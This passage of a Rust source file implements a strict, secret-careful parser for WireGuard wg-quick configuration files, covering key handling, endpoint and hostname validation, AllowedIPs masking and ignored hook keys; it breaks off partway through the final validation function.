//! wg-quick configuration files: a strict parser for the format that
//! `wg-quick(8)` and `wg(8)` accept, for `warren up NAME --wg FILE`.
//!
//! ```ini
//! [Interface]
//! PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=
//! Address = 10.64.0.2/32, fd00:64::2/128
//! DNS = 10.64.0.1, corp.example.com
//! MTU = 1420
//!
//! [Peer]
//! PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=
//! Endpoint = vpn.example.com:51820
//! AllowedIPs = 0.0.0.0/0, ::/0
//! PersistentKeepalive = 25
//! ```
//!
//! What is accepted follows wg and wg-quick: section and key names are
//! case-insensitive, `#` starts a comment anywhere on a line, list keys
//! (`Address`, `DNS`, `AllowedIPs`) may repeat and accumulate, `DNS`
//! entries that are not IP addresses are search domains, and AllowedIPs
//! with host bits set are masked (with a warning, as `wg` does). The keys
//! that only wg-quick itself acts on (`Table`, `PreUp`, `PostUp`, `PreDown`,
//! `PostDown`, `SaveConfig`) and `FwMark` are accepted with a warning and
//! never acted on: warren runs no hooks. Everything else that wg would
//! reject, and a few things it would silently misuse (a duplicated scalar
//! key, two peers with one public key, a peer carrying the interface's own
//! key), is an error naming the file and line.
//!
//! Secret keys never appear in an error, a warning or a `Debug` output.

use std::fmt;
use std::fs::File;
use std::io::Read;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, ToSocketAddrs};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde::{Deserialize, Deserializer, Serialize, Serializer};
use thiserror::Error;
use warren_ipc::instance::IpPrefix;
use zeroize::{Zeroize, ZeroizeOnDrop, Zeroizing};

/// Largest configuration file [`load`] reads (a real one is a few
/// kilobytes).
pub const MAX_FILE_LEN: u64 = 1 << 20;
/// Smallest accepted `MTU`.
pub const MIN_MTU: u16 = 576;
/// Largest accepted `MTU`.
pub const MAX_MTU: u16 = 9000;
/// Smallest `MTU` when the interface has an IPv6 address.
pub const MIN_MTU_IPV6: u16 = 1280;
/// How many name servers the system resolver uses (glibc's `MAXNS`).
pub const MAX_USED_DNS_SERVERS: usize = 3;

/// What a WireGuard key looks like, for error messages.
const KEY_SHAPE: &str = "a key is 44 base64 characters ending in '=', as `wg genkey` prints";

// ---------------------------------------------------------------------------
// Keys

/// Why a base64 string is not a WireGuard key. Never carries the value.
#[derive(Debug, Error, Clone, Copy, PartialEq, Eq)]
pub enum KeyError {
    /// Nothing there.
    #[error("is empty")]
    Empty,
    /// Not standard, padded base64.
    #[error("is not valid base64")]
    Base64,
    /// Valid base64 of the wrong number of bytes.
    #[error("decodes to {0} bytes instead of 32")]
    Length(usize),
}

/// Decodes a base64 WireGuard key; the intermediate buffer is zeroized.
fn decode_key(s: &str) -> Result<Zeroizing<[u8; 32]>, KeyError> {
    if s.is_empty() {
        return Err(KeyError::Empty);
    }
    let bytes = Zeroizing::new(
        STANDARD
            .decode(s.as_bytes())
            .map_err(|_| KeyError::Base64)?,
    );
    if bytes.len() != 32 {
        return Err(KeyError::Length(bytes.len()));
    }
    let mut out = Zeroizing::new([0u8; 32]);
    out.copy_from_slice(&bytes);
    Ok(out)
}

/// A secret WireGuard key (`PrivateKey`, `PresharedKey`): 32 bytes,
/// zeroized on drop. `Debug` prints `Key(<redacted>)`; serde reads and
/// writes it as base64 (only to hand it to the instance worker).
#[derive(Clone, Zeroize, ZeroizeOnDrop)]
pub struct Key([u8; 32]);

impl Key {
    /// Wraps raw key bytes.
    pub fn from_bytes(bytes: [u8; 32]) -> Key {
        Key(bytes)
    }

    /// The raw key bytes.
    pub fn as_bytes(&self) -> &[u8; 32] {
        &self.0
    }

    /// Parses standard, padded base64 of exactly 32 bytes (what `wg genkey`
    /// prints).
    pub fn from_base64(s: &str) -> Result<Key, KeyError> {
        decode_key(s).map(|k| Key(*k))
    }

    /// The key as base64. Only for sending it to the worker: the string is
    /// not zeroized unless the caller wraps it in [`Zeroizing`].
    pub fn to_base64(&self) -> String {
        STANDARD.encode(self.0)
    }

    /// Whether every byte is zero (WireGuard's "no key").
    pub fn is_zero(&self) -> bool {
        self.0.iter().fold(0u8, |acc, b| acc | b) == 0
    }
}

impl PartialEq for Key {
    /// Compares in constant time.
    fn eq(&self, other: &Key) -> bool {
        self.0
            .iter()
            .zip(other.0.iter())
            .fold(0u8, |acc, (a, b)| acc | (a ^ b))
            == 0
    }
}

impl Eq for Key {}

impl fmt::Debug for Key {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("Key(<redacted>)")
    }
}

impl Serialize for Key {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let b64 = Zeroizing::new(self.to_base64());
        serializer.serialize_str(&b64)
    }
}

impl<'de> Deserialize<'de> for Key {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<Key, D::Error> {
        let s = Zeroizing::new(String::deserialize(deserializer)?);
        Key::from_base64(&s).map_err(|e| serde::de::Error::custom(format!("secret key {e}")))
    }
}

/// A public WireGuard key (a peer's `PublicKey`, or the interface's own).
/// Not secret: `Debug` and `Display` print it as base64, as `wg` does.
#[derive(Clone, Copy, PartialEq, Eq, Hash)]
pub struct PublicKey32(pub [u8; 32]);

impl PublicKey32 {
    /// Parses standard, padded base64 of exactly 32 bytes.
    pub fn from_base64(s: &str) -> Result<PublicKey32, KeyError> {
        decode_key(s).map(|k| PublicKey32(*k))
    }

    /// The key as base64.
    pub fn to_base64(&self) -> String {
        STANDARD.encode(self.0)
    }

    /// The public key of a private key (X25519 base point multiplication,
    /// with the usual clamping).
    pub fn from_private(private: &Key) -> PublicKey32 {
        let secret = boringtun::x25519::StaticSecret::from(*private.as_bytes());
        PublicKey32(boringtun::x25519::PublicKey::from(&secret).to_bytes())
    }
}

impl fmt::Display for PublicKey32 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.to_base64())
    }
}

impl fmt::Debug for PublicKey32 {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "PublicKey32({})", self.to_base64())
    }
}

impl FromStr for PublicKey32 {
    type Err = KeyError;
    fn from_str(s: &str) -> Result<PublicKey32, KeyError> {
        PublicKey32::from_base64(s)
    }
}

impl Serialize for PublicKey32 {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.to_base64())
    }
}

impl<'de> Deserialize<'de> for PublicKey32 {
    fn deserialize<D: Deserializer<'de>>(deserializer: D) -> Result<PublicKey32, D::Error> {
        let s = String::deserialize(deserializer)?;
        PublicKey32::from_base64(&s)
            .map_err(|e| serde::de::Error::custom(format!("public key {e}")))
    }
}

// ---------------------------------------------------------------------------
// Endpoints

/// A peer's `Endpoint`: an address, or a host name resolved when the tunnel
/// comes up. Written `1.2.3.4:51820`, `[fd00::1]:51820` or
/// `vpn.example.com:51820`; serde uses the same text.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub enum Endpoint {
    /// An IP address and port.
    Addr(SocketAddr),
    /// A host name (validated, not yet resolved) and port.
    Name {
        /// The host name as written.
        host: String,
        /// The UDP port.
        port: u16,
    },
}

/// Why a string is not an endpoint.
#[derive(Debug, Error, Clone, PartialEq, Eq)]
#[error("{0}")]
pub struct EndpointError(String);

impl Endpoint {
    /// The UDP port.
    pub fn port(&self) -> u16 {
        match self {
            Endpoint::Addr(a) => a.port(),
            Endpoint::Name { port, .. } => *port,
        }
    }

    /// The socket addresses to try: the address itself, or what the system
    /// resolver (`getaddrinfo`, through std's `ToSocketAddrs`) returns for
    /// the host name. Blocks while resolving.
    pub fn resolve(&self) -> std::io::Result<Vec<SocketAddr>> {
        match self {
            Endpoint::Addr(a) => Ok(vec![*a]),
            Endpoint::Name { host, port } => {
                let addrs: Vec<SocketAddr> = (host.as_str(), *port).to_socket_addrs()?.collect();
                if addrs.is_empty() {
                    return Err(std::io::Error::new(
                        std::io::ErrorKind::NotFound,
                        format!("{host} has no addresses"),
                    ));
                }
                Ok(addrs)
            }
        }
    }
}

impl fmt::Display for Endpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Endpoint::Addr(a) => write!(f, "{a}"),
            Endpoint::Name { host, port } => write!(f, "{host}:{port}"),
        }
    }
}

impl FromStr for Endpoint {
    type Err = EndpointError;
    fn from_str(s: &str) -> Result<Endpoint, EndpointError> {
        let e = |m: String| EndpointError(m);
        let s = s.trim();
        if s.is_empty() {
            return Err(e(
                "is empty; expected HOST:PORT, IPv4:PORT or [IPv6]:PORT".into()
            ));
        }
        if let Some(rest) = s.strip_prefix('[') {
            let Some((host, after)) = rest.split_once(']') else {
                return Err(e(format!(
                    "{s:?} has '[' without a matching ']'; expected [IPv6]:PORT"
                )));
            };
            let Some(port) = after.strip_prefix(':') else {
                return Err(e(format!(
                    "{s:?} has no port after ']'; expected [IPv6]:PORT"
                )));
            };
            if host.contains('%') {
                return Err(e(format!(
                    "{s:?} has an IPv6 scope (%...), which warren does not support"
                )));
            }
            let ip: IpAddr = host.parse().map_err(|_| {
                e(format!(
                    "[{host}] is not an IP address; only addresses go in brackets"
                ))
            })?;
            return Ok(Endpoint::Addr(SocketAddr::new(ip, endpoint_port(s, port)?)));
        }
        let Some((host, port)) = s.rsplit_once(':') else {
            return Err(e(format!(
                "{s:?} has no port; expected HOST:PORT, IPv4:PORT or [IPv6]:PORT"
            )));
        };
        if host.contains(':') {
            return Err(e(format!(
                "{s:?} looks like an IPv6 address without brackets; write [ADDRESS]:PORT"
            )));
        }
        let port = endpoint_port(s, port)?;
        if let Ok(v4) = host.parse::<Ipv4Addr>() {
            return Ok(Endpoint::Addr(SocketAddr::new(IpAddr::V4(v4), port)));
        }
        if !host.is_empty() && host.bytes().all(|b| b.is_ascii_digit() || b == b'.') {
            return Err(e(format!("{host:?} is not a valid IPv4 address")));
        }
        if !valid_hostname(host) {
            return Err(e(format!(
                "{host:?} is neither an IP address nor a valid host name"
            )));
        }
        Ok(Endpoint::Name {
            host: host.to_owned(),
            port,
        })
    }
}

fn endpoint_port(whole: &str, port: &str) -> Result<u16, EndpointError> {
    match parse_u16(port) {
        Some(p) if p != 0 => Ok(p),
        _ => Err(EndpointError(format!(
            "{whole:?} has port {port:?}; expected a port number from 1 to 65535"
        ))),
    }
}

impl TryFrom<String> for Endpoint {
    type Error = EndpointError;
    fn try_from(s: String) -> Result<Endpoint, EndpointError> {
        s.parse()
    }
}

impl From<Endpoint> for String {
    fn from(e: Endpoint) -> String {
        e.to_string()
    }
}

// ---------------------------------------------------------------------------
// The configuration

/// The `[Interface]` section.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Interface {
    /// `PrivateKey` (required, never all zeros).
    pub private_key: Key,
    /// `Address`: the tunnel's own addresses (at least one), as written
    /// (host bits kept: `10.0.0.2/24` means address 10.0.0.2 on a /24).
    #[serde(default)]
    pub addresses: Vec<IpPrefix>,
    /// `DNS` entries that are IP addresses: the name servers.
    #[serde(default)]
    pub dns: Vec<IpAddr>,
    /// `DNS` entries that are names: the search domains.
    #[serde(default)]
    pub dns_search: Vec<String>,
    /// `MTU` (576 to 9000, at least 1280 with IPv6 addresses); `None`:
    /// pick one.
    #[serde(default)]
    pub mtu: Option<u16>,
    /// `ListenPort`; `None` (absent or 0): a random port.
    #[serde(default)]
    pub listen_port: Option<u16>,
}

/// A `[Peer]` section.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Peer {
    /// `PublicKey` (required, unique among the peers).
    pub public_key: PublicKey32,
    /// `PresharedKey`; an all-zero key reads as `None`, as in WireGuard.
    #[serde(default)]
    pub preshared_key: Option<Key>,
    /// `Endpoint`; `None`: wait for the peer to reach us.
    #[serde(default)]
    pub endpoint: Option<Endpoint>,
    /// `AllowedIPs`, host bits masked, without duplicates. May be empty
    /// (then nothing is sent to this peer).
    #[serde(default)]
    pub allowed_ips: Vec<IpPrefix>,
    /// `PersistentKeepalive` in seconds; `None` for off or 0.
    #[serde(default)]
    pub persistent_keepalive: Option<u16>,
}

/// A parsed wg-quick file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct WgConfig {
    /// The `[Interface]` section.
    pub interface: Interface,
    /// The `[Peer]` sections in file order (at least one).
    pub peers: Vec<Peer>,
}

impl WgConfig {
    /// The interface's public key, derived from its private key.
    pub fn public_key(&self) -> PublicKey32 {
        PublicKey32::from_private(&self.interface.private_key)
    }

    /// Every peer's AllowedIPs, in order, without duplicates: what is
    /// routed into the tunnel.
    pub fn allowed_ips(&self) -> Vec<IpPrefix> {
        let mut out: Vec<IpPrefix> = Vec::new();
        for p in self.peers.iter().flat_map(|p| p.allowed_ips.iter()) {
            if !out.contains(p) {
                out.push(*p);
            }
        }
        out
    }
}

/// A configuration file is unusable: which file, which line (when one line
/// is to blame), and what is wrong.
#[derive(Debug, Error, Clone, PartialEq, Eq)]
#[error("{}{}: {}", .file.display(), line_suffix(*.line), .message)]
pub struct ConfError {
    /// The file.
    pub file: PathBuf,
    /// The 1-based line, if one line is to blame.
    pub line: Option<usize>,
    /// What is wrong and what was expected.
    pub message: String,
}

fn line_suffix(line: Option<usize>) -> String {
    line.map(|l| format!(":{l}")).unwrap_or_default()
}

impl ConfError {
    fn at(file: &Path, line: usize, message: impl Into<String>) -> ConfError {
        ConfError {
            file: file.to_owned(),
            line: Some(line),
            message: message.into(),
        }
    }

    fn whole(file: &Path, message: impl Into<String>) -> ConfError {
        ConfError {
            file: file.to_owned(),
            line: None,
            message: message.into(),
        }
    }
}

/// Parses a wg-quick file's text. `file` is only used in errors. Warnings
/// (ignored keys, masked AllowedIPs, ...) are dropped; see
/// [`parse_with_warnings`].
pub fn parse(file: &Path, text: &str) -> Result<WgConfig, ConfError> {
    parse_with_warnings(file, text).map(|(c, _)| c)
}

/// Parses a wg-quick file's text, returning the configuration and warnings
/// (`FILE:LINE: ...` strings, one per thing the user should know about).
pub fn parse_with_warnings(file: &Path, text: &str) -> Result<(WgConfig, Vec<String>), ConfError> {
    Parser {
        file,
        warnings: Vec::new(),
    }
    .run(text)
}

/// Reads and parses a wg-quick file (at most [`MAX_FILE_LEN`] bytes of
/// UTF-8). The warnings include one when a regular file is accessible by
/// group or others: it holds a private key.
pub fn load(path: &Path) -> Result<(WgConfig, Vec<String>), ConfError> {
    let mut file =
        File::open(path).map_err(|e| ConfError::whole(path, format!("cannot open: {e}")))?;
    let meta = file
        .metadata()
        .map_err(|e| ConfError::whole(path, format!("cannot stat: {e}")))?;
    if meta.is_dir() {
        return Err(ConfError::whole(
            path,
            "is a directory; expected a wg-quick configuration file",
        ));
    }
    if meta.len() > MAX_FILE_LEN {
        return Err(ConfError::whole(
            path,
            format!(
                "is {} bytes; a wg-quick file is at most {MAX_FILE_LEN} bytes",
                meta.len()
            ),
        ));
    }
    let mut warnings = Vec::new();
    let mode = meta.permissions().mode() & 0o7777;
    if meta.is_file() && mode & 0o077 != 0 {
        let how = if mode & 0o044 != 0 {
            "readable"
        } else {
            "accessible"
        };
        warnings.push(format!(
            "{} is {how} by group or others (mode {mode:04o}); chmod 600 it",
            path.display()
        ));
    }
    // Sized up front so the secret is never left behind in a reallocation.
    let cap = usize::try_from(meta.len()).unwrap_or(0).saturating_add(1);
    let mut buf = Zeroizing::new(Vec::with_capacity(cap));
    (&mut file)
        .take(MAX_FILE_LEN + 1)
        .read_to_end(&mut buf)
        .map_err(|e| ConfError::whole(path, format!("cannot read: {e}")))?;
    if buf.len() as u64 > MAX_FILE_LEN {
        return Err(ConfError::whole(
            path,
            format!("is longer than {MAX_FILE_LEN} bytes; expected a wg-quick file"),
        ));
    }
    let text = std::str::from_utf8(&buf).map_err(|e| {
        ConfError::whole(
            path,
            format!(
                "is not UTF-8 text (bad byte at offset {}); expected a wg-quick file",
                e.valid_up_to()
            ),
        )
    })?;
    let (config, more) = parse_with_warnings(path, text)?;
    warnings.extend(more);
    Ok((config, warnings))
}

// ---------------------------------------------------------------------------
// The parser

const INTERFACE_KEYS: &str = "PrivateKey, Address, DNS, MTU, ListenPort";
const PEER_KEYS: &str = "PublicKey, PresharedKey, Endpoint, AllowedIPs, PersistentKeepalive";
/// Longer "key names" are not echoed: they may be pasted base64 keys.
const MAX_KEY_NAME: usize = 32;
const HOOKS: &str = "warren does not run wg-quick hooks";

/// `[Interface]` keys that are accepted, warned about and not acted on.
const IGNORED_INTERFACE_KEYS: &[(&str, &str)] = &[
    ("Table", "warren routes the peers' AllowedIPs itself"),
    ("PreUp", HOOKS),
    ("PostUp", HOOKS),
    ("PreDown", HOOKS),
    ("PostDown", HOOKS),
    (
        "SaveConfig",
        "warren never writes to the configuration file",
    ),
    ("FwMark", "warren does not mark the tunnel's packets"),
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Section {
    None,
    Interface,
    Peer,
}

struct IfaceBuilder {
    line: usize,
    seen: Vec<(&'static str, usize)>,
    private_key: Option<Key>,
    addresses: Vec<(IpPrefix, usize)>,
    dns: Vec<IpAddr>,
    dns_search: Vec<String>,
    mtu: Option<(u16, usize)>,
    listen_port: Option<u16>,
}

struct PeerBuilder {
    line: usize,
    seen: Vec<(&'static str, usize)>,
    public_key: Option<(PublicKey32, usize)>,
    preshared_key: Option<Key>,
    endpoint: Option<Endpoint>,
    allowed_ips: Vec<(IpPrefix, usize)>,
    persistent_keepalive: Option<u16>,
}

struct Parser<'a> {
    file: &'a Path,
    warnings: Vec<String>,
}

/// Digits only (no sign, no spaces), fitting in a `u16`.
fn parse_u16(s: &str) -> Option<u16> {
    if s.is_empty() || !s.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    s.parse().ok()
}

/// A DNS name: dot-separated labels of letters, digits, `-` and `_` (1 to
/// 63 characters, no `-` at either end), 253 characters at most, an
/// optional trailing dot, and a last label that is not all digits (so a
/// mistyped IPv4 address is not taken for a name).
pub fn valid_hostname(s: &str) -> bool {
    let s = s.strip_suffix('.').unwrap_or(s);
    if s.is_empty() || s.len() > 253 {
        return false;
    }
    let labels_ok = s.split('.').all(|l| {
        !l.is_empty()
            && l.len() <= 63
            && !l.starts_with('-')
            && !l.ends_with('-')
            && l.bytes()
                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
    });
    let last_numeric = s
        .rsplit('.')
        .next()
        .is_some_and(|l| l.bytes().all(|b| b.is_ascii_digit()));
    labels_ok && !last_numeric
}

/// Clears the host bits.
fn mask(p: IpPrefix) -> IpPrefix {
    let len = p.len();
    let addr = match p.addr() {
        IpAddr::V4(a) => {
            let m = u32::MAX.checked_shl(32 - u32::from(len)).unwrap_or(0);
            IpAddr::V4(Ipv4Addr::from(u32::from(a) & m))
        }
        IpAddr::V6(a) => {
            let m = u128::MAX.checked_shl(128 - u32::from(len)).unwrap_or(0);
            IpAddr::V6(Ipv6Addr::from(u128::from(a) & m))
        }
    };
    IpPrefix::new(addr, len).unwrap_or(p)
}

/// Address and DNS lists: wg-quick splits them on commas and whitespace.
fn list_items(value: &str) -> impl Iterator<Item = &str> {
    value
        .split(|c: char| c == ',' || c.is_whitespace())
        .filter(|s| !s.is_empty())
}

fn is_key(key: &str, name: &str) -> bool {
    key.eq_ignore_ascii_case(name)
}

impl Parser<'_> {
    fn err(&self, line: usize, message: impl Into<String>) -> ConfError {
        ConfError::at(self.file, line, message)
    }

    fn warn(&mut self, line: usize, message: impl fmt::Display) {
        self.warnings
            .push(format!("{}:{line}: {message}", self.file.display()));
    }

    /// Records a scalar key; a second one in the same section is an error.
    fn once(
        &self,
        seen: &mut Vec<(&'static str, usize)>,
        name: &'static str,
        line: usize,
    ) -> Result<(), ConfError> {
        if let Some(&(_, first)) = seen.iter().find(|(k, _)| *k == name) {
            return Err(self.err(
                line,
                format!("{name} is set twice in this section (first on line {first}); keep one"),
            ));
        }
        seen.push((name, line));
        Ok(())
    }

    fn run(mut self, text: &str) -> Result<(WgConfig, Vec<String>), ConfError> {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        let mut section = Section::None;
        let mut iface: Option<IfaceBuilder> = None;
        let mut peers: Vec<PeerBuilder> = Vec::new();

        for (idx, raw) in text.lines().enumerate() {
            let n = idx + 1;
            let line = raw.split('#').next().unwrap_or("").trim();
            if line.is_empty() {
                continue;
            }
            if line.starts_with('[') {
                let Some(name) = line
                    .strip_prefix('[')
                    .and_then(|l| l.strip_suffix(']'))
                    .map(str::trim)
                else {
                    return Err(self.err(
                        n,
                        "malformed section header; expected [Interface] or [Peer]",
                    ));
                };
                if is_key(name, "Interface") {
                    if let Some(first) = &iface {
                        return Err(self.err(
                            n,
                            format!(
                                "second [Interface] section (the first is on line {}); \
                                 expected exactly one",
                                first.line
                            ),
                        ));
                    }
                    iface = Some(IfaceBuilder {
                        line: n,
                        seen: Vec::new(),
                        private_key: None,
                        addresses: Vec::new(),
                        dns: Vec::new(),
                        dns_search: Vec::new(),
                        mtu: None,
                        listen_port: None,
                    });
                    section = Section::Interface;
                } else if is_key(name, "Peer") {
                    peers.push(PeerBuilder {
                        line: n,
                        seen: Vec::new(),
                        public_key: None,
                        preshared_key: None,
                        endpoint: None,
                        allowed_ips: Vec::new(),
                        persistent_keepalive: None,
                    });
                    section = Section::Peer;
                } else {
                    return Err(self.err(
                        n,
                        format!("unknown section [{name}]; expected [Interface] or [Peer]"),
                    ));
                }
                continue;
            }
            // Never echo the line: it may be a pasted secret.
            let Some((key, value)) = line.split_once('=') else {
                return Err(self.err(
                    n,
                    "line has no '='; expected KEY = VALUE or a section header \
                     ([Interface] or [Peer])",
                ));
            };
            let (key, value) = (key.trim(), value.trim());
            if key.is_empty() {
                return Err(self.err(n, "missing key name before '='; expected KEY = VALUE"));
            }
            // Not echoed either: a pasted base64 key contains '='.
            if key.len() > MAX_KEY_NAME || !key.bytes().all(|b| b.is_ascii_alphabetic()) {
                return Err(self.err(
                    n,
                    "malformed key name; expected KEY = VALUE with a key such as \
                     PrivateKey or AllowedIPs",
                ));
            }
            match section {
                Section::None => {
                    return Err(self.err(
                        n,
                        format!(
                            "{key:?} is outside any section; \
                             expected it under [Interface] or [Peer]"
                        ),
                    ));
                }
                Section::Interface => {
                    if let Some(b) = iface.as_mut() {
                        self.interface_key(b, key, value, n)?;
                    }
                }
                Section::Peer => {
                    if let Some((b, earlier)) = peers.split_last_mut() {
                        self.peer_key(b, earlier, key, value, n)?;
                    }
                }
            }
        }
        self.finish(iface, peers)
    }

    fn interface_key(
        &mut self,
        b: &mut IfaceBuilder,
        key: &str,
        value: &str,
        n: usize,
    ) -> Result<(), ConfError> {
        if is_key(key, "PrivateKey") {
            self.once(&mut b.seen, "PrivateKey", n)?;
            let k = Key::from_base64(value).map_err(|e| {
                self.err(
                    n,
                    format!("PrivateKey is not a valid base64 32-byte key: it {e} ({KEY_SHAPE})"),
                )
            })?;
            if k.is_zero() {
                return Err(self.err(
                    n,
                    "PrivateKey is all zeros, which WireGuard treats as no key; \
                     expected a key made by `wg genkey`",
                ));
            }
            b.private_key = Some(k);
        } else if is_key(key, "Address") {
            for item in list_items(value) {
                let p: IpPrefix = item.parse().map_err(|_| {
                    self.err(
                        n,
                        format!(
                            "Address {item:?} is not an IP address with an optional \
                             /prefix; expected e.g. 10.0.0.2/32 or fd00::2/128"
                        ),
                    )
                })?;
                let a = p.addr();
                if a.is_unspecified() || a.is_multicast() {
                    return Err(self.err(
                        n,
                        format!(
                            "Address {p} is not a usable interface address \
                             (unspecified or multicast)"
                        ),
                    ));
                }
                if let Some((_, first)) = b.addresses.iter().find(|(q, _)| q.addr() == a) {
                    return Err(self.err(
                        n,
                        format!("address {a} is already assigned on line {first}"),
                    ));
                }
                b.addresses.push((p, n));
            }
        } else if is_key(key, "DNS") {
            for item in list_items(value) {
                // wg-quick's own split: digits and dots, or anything with a
                // ':', is a server; the rest are search domains.
                let looks_ip =
                    item.contains(':') || item.bytes().all(|c| c.is_ascii_digit() || c == b'.');
                if looks_ip {
                    let ip: IpAddr = item.parse().map_err(|_| {
                        self.err(
                            n,
                            format!(
                                "DNS entry {item:?} is not a valid IP address; expected \
                                 server addresses or search domains"
                            ),
                        )
                    })?;
                    if !b.dns.contains(&ip) {
                        b.dns.push(ip);
                    }
                } else if valid_hostname(item) {
                    if !b.dns_search.iter().any(|d| d.eq_ignore_ascii_case(item)) {
                        b.dns_search.push(item.to_owned());
                    }
                } else {
                    return Err(self.err(
                        n,
                        format!(
                            "DNS entry {item:?} is neither an IP address nor a valid \
                             search domain"
                        ),
                    ));
                }
            }
        } else if is_key(key, "MTU") {
            self.once(&mut b.seen, "MTU", n)?;
            match parse_u16(value) {
                Some(m) if (MIN_MTU..=MAX_MTU).contains(&m) => b.mtu = Some((m, n)),
                _ => {
                    return Err(self.err(
                        n,
                        format!(
                            "MTU {value:?} is not a number from {MIN_MTU} to {MAX_MTU} \
                             ({MIN_MTU_IPV6} or more with IPv6 addresses)"
                        ),
                    ));
                }
            }
        } else if is_key(key, "ListenPort") {
            self.once(&mut b.seen, "ListenPort", n)?;
            let p = parse_u16(value).ok_or_else(|| {
                self.err(
                    n,
                    format!(
                        "ListenPort {value:?} is not a port number from 0 to 65535 \
                         (0 picks a random port)"
                    ),
                )
            })?;
            b.listen_port = (p != 0).then_some(p);
        } else if let Some(&(name, why)) = IGNORED_INTERFACE_KEYS
            .iter()
            .find(|(name, _)| is_key(key, name))
        {
            self.warn(n, format_args!("{name} ignored: {why}"));
        } else if PEER_KEYS.split(", ").any(|k| is_key(key, k)) {
            return Err(self.err(
                n,
                format!("{key} belongs in a [Peer] section, not [Interface]"),
            ));
        } else {
            return Err(self.err(
                n,
                format!("unknown key {key:?} in [Interface]; expected one of {INTERFACE_KEYS}"),
            ));
        }
        Ok(())
    }

    fn peer_key(
        &mut self,
        b: &mut PeerBuilder,
        earlier: &[PeerBuilder],
        key: &str,
        value: &str,
        n: usize,
    ) -> Result<(), ConfError> {
        if is_key(key, "PublicKey") {
            self.once(&mut b.seen, "PublicKey", n)?;
            let k = PublicKey32::from_base64(value).map_err(|e| {
                self.err(
                    n,
                    format!("PublicKey is not a valid base64 32-byte key: it {e} ({KEY_SHAPE})"),
                )
            })?;
            if let Some(other) = earlier
                .iter()
                .find(|p| p.public_key.is_some_and(|(q, _)| q == k))
            {
                return Err(self.err(
                    n,
                    format!(
                        "peer {k} is already defined by the [Peer] on line {}; \
                         expected each PublicKey once",
                        other.line
                    ),
                ));
            }
            b.public_key = Some((k, n));
        } else if is_key(key, "PresharedKey") {
            self.once(&mut b.seen, "PresharedKey", n)?;
            let k = Key::from_base64(value).map_err(|e| {
                self.err(
                    n,
                    format!("PresharedKey is not a valid base64 32-byte key: it {e} ({KEY_SHAPE})"),
                )
            })?;
            b.preshared_key = (!k.is_zero()).then_some(k);
        } else if is_key(key, "Endpoint") {
            self.once(&mut b.seen, "Endpoint", n)?;
            let e: Endpoint = value
                .parse()
                .map_err(|e: EndpointError| self.err(n, format!("Endpoint {e}")))?;
            b.endpoint = Some(e);
        } else if is_key(key, "AllowedIPs") {
            if value.is_empty() {
                return Ok(());
            }
            for item in value.split(',').map(str::trim) {
                if item.is_empty() {
                    return Err(self.err(
                        n,
                        "AllowedIPs has an empty entry; expected comma-separated prefixes \
                         like 10.0.0.0/8, fd00::/64",
                    ));
                }
                let p: IpPrefix = item.parse().map_err(|_| {
                    self.err(
                        n,
                        format!(
                            "AllowedIPs entry {item:?} is not an IP address with an optional \
                             /prefix; expected comma-separated prefixes like 10.0.0.0/8, fd00::/64"
                        ),
                    )
                })?;
                let m = mask(p);
                if m != p {
                    self.warn(
                        n,
                        format_args!("AllowedIPs {p} has host bits set; using {m}"),
                    );
                }
                if !b.allowed_ips.iter().any(|(q, _)| *q == m) {
                    b.allowed_ips.push((m, n));
                }
            }
        } else if is_key(key, "PersistentKeepalive") {
            self.once(&mut b.seen, "PersistentKeepalive", n)?;
            if value.eq_ignore_ascii_case("off") {
                b.persistent_keepalive = None;
            } else {
                let s = parse_u16(value).ok_or_else(|| {
                    self.err(
                        n,
                        format!(
                            "PersistentKeepalive {value:?} is neither off nor a number of \
                             seconds from 0 to 65535"
                        ),
                    )
                })?;
                b.persistent_keepalive = (s != 0).then_some(s);
            }
        } else if INTERFACE_KEYS.split(", ").any(|k| is_key(key, k))
            || IGNORED_INTERFACE_KEYS.iter().any(|(k, _)| is_key(key, k))
        {
            return Err(self.err(
                n,
                format!("{key} belongs in the [Interface] section, not [Peer]"),
            ));
        } else {
            return Err(self.err(
                n,
                format!("unknown key {key:?} in [Peer]; expected one of {PEER_KEYS}"),
            ));
        }
        Ok(())
    }

    fn finish(
        mut self,
        iface: Option<IfaceBuilder>,
        peers: Vec<PeerBuilder>,
    ) -> Result<(WgConfig, Vec<String>), ConfError> {
        let Some(mut iface) = iface else {
            return Err(ConfError::whole(
                self.file,
                "no [Interface] section; expected one with a PrivateKey and an Address",
            ));
        };
        let Some(private_key) = iface.private_key.take() else {
            return Err(self.err(
                iface.line,
                "[Interface] has no PrivateKey; expected PrivateKey = <key from `wg genkey`>",
            ));
        };
        if iface.addresses.is_empty() {
            return Err(self.err(
                iface.line,
                "[Interface] has no Address; expected at least one, e.g. Address = 10.0.0.2/32",
            ));
        }
        if let Some((mtu, line)) = iface.mtu
            && mtu < MIN_MTU_IPV6
